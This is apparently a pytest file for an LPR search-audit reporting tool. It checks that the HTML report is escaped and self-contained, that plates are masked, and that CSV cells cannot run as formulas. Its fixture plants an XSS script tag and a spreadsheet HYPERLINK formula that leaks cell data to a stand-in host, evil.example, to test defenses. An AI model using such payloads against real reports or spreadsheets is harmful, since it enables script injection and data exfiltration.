"""report.html is self-contained and readable; findings.csv traces every finding to its rows."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest

from trustlpr.oversight import import_files, load_config, run_rules, write_report
from trustlpr.oversight.report import CSV_COLUMNS

from .synth import Search, clean_traffic, planted, write_13

CHROMIUM = Path("/usr/bin/chromium")


@pytest.fixture(scope="module")
def written(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Path, dict[str, Any], dict[str, list[Search]]]:
    folder = tmp_path_factory.mktemp("report")
    plants = planted()
    hostile = plants["S1.protest"][0]
    plants["S1.protest"].append(
        Search(
            "P-S1.protest-x",
            hostile.name,
            hostile.at,
            "<script>alert(1)</script> protest",
            plate="HTM1",
        )
    )
    plants["S1.protest"].append(
        Search(
            "P-S1.protest-f",
            hostile.name,
            hostile.at,
            '=HYPERLINK("http://evil.example/?leak="&A1,"protest")',
            plate="FRM1",
        )
    )
    searches = clean_traffic(users=3, days=14) + [s for g in plants.values() for s in g]
    export = write_13(folder / "audit.csv", searches)
    junk = folder / "junk.csv"
    junk.write_bytes(b"\x00\x01binary")
    result = import_files([export, junk])
    run = run_rules(result.table, result.events, load_config(), result.file_columns())
    info = write_report(folder / "out", result, run)
    return folder / "out", info, plants


def test_summary_has_the_promised_keys(written: tuple[Path, dict[str, Any], Any]) -> None:
    _, info, _ = written
    assert info["files"] == 2 and info["files_failed"] == 1
    assert info["rows_imported"] > 0 and info["rows_rejected"] == 0
    assert info["findings"] == sum(info["findings_by_rule"].values()) > 0
    assert set(info["findings_by_severity"]) <= {"high", "medium", "low"}


def test_html_is_self_contained_and_escaped(written: tuple[Path, dict[str, Any], Any]) -> None:
    out, _, _ = written
    html = (out / "report.html").read_text(encoding="utf-8")
    assert html.count("<svg") == 5
    assert "<script" not in html  # no scripts of ours, and the planted one is escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt; protest" in html
    external = re.findall(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", html)
    assert not external
    assert "junk.csv" in html and "binary data" in html  # the refused file is reported
    for title in ("Searches over time", "Reason categories", "Networks searched",
                  "Flagged share by agency", "Flagged share by user"):  # fmt: skip
        assert title in html


def test_findings_csv_has_one_row_per_finding_and_evidence_row(
    written: tuple[Path, dict[str, Any], dict[str, list[Search]]],
) -> None:
    out, info, plants = written
    with open(out / "findings.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == info["findings_csv_rows"]
    cited = {(r["rule_id"], r["export_id"]) for r in rows}
    for rule in ("S1.protest", "S4.repeat-plate", "S2.vague-reason", "S14.plateless-search"):
        for search in plants[rule]:
            assert (rule, search.id) in cited
    for row in rows:
        assert row["severity"] in ("high", "medium", "low") and row["explanation"]
        assert row["finding"].startswith("F") and row["line"].isdigit()


def test_plates_are_masked_unless_asked(
    written: tuple[Path, dict[str, Any], Any], tmp_path: Path
) -> None:
    out, _, _ = written
    text = (out / "findings.csv").read_text(encoding="utf-8") + (out / "report.html").read_text(
        encoding="utf-8"
    )
    assert "STK1234" not in text and "S******" in text
    export = write_13(tmp_path / "a.csv", planted()["S4.repeat-plate"])
    result = import_files([export])
    run = run_rules(result.table, result.events, load_config(), result.file_columns())
    write_report(tmp_path / "shown", result, run, show_plates=True)
    assert "STK1234" in (tmp_path / "shown" / "findings.csv").read_text(encoding="utf-8")


def test_an_empty_import_still_writes_a_report(tmp_path: Path) -> None:
    junk = tmp_path / "junk.csv"
    junk.write_text("a,b\n1,2\n")
    result = import_files([junk])
    run = run_rules(result.table, result.events, load_config(), result.file_columns())
    info = write_report(tmp_path / "out", result, run)
    assert info["rows_imported"] == 0 and info["findings"] == 0
    assert "no data" in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")


@pytest.mark.browser
def test_report_renders_in_chromium(written: tuple[Path, dict[str, Any], Any]) -> None:
    from playwright.sync_api import sync_playwright

    out, info, _ = written
    assert CHROMIUM.exists(), "Chromium is needed at /usr/bin/chromium"
    errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        page = browser.new_page()
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.on(
            "request", lambda r: errors.append(r.url) if not r.url.startswith("file:") else None
        )
        page.goto((out / "report.html").as_uri())
        assert page.locator("figure svg").count() == 5
        assert page.locator("div.finding").count() == info["incidents"] + info["notes"]
        assert page.locator("div.practice").count() == len(info["practices"])
        box = page.locator("figure svg").first.bounding_box()
        assert box is not None and box["width"] > 200 and box["height"] > 100
        browser.close()
    assert not errors


def test_findings_csv_cells_cannot_run_as_formulas(
    written: tuple[Path, dict[str, Any], Any],
) -> None:
    out, _, _ = written
    with open(out / "findings.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the planted reason is there ...
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(re.fullmatch(r"[+-]?[\d.]+", c) for c in risky), risky  # ... but only as text
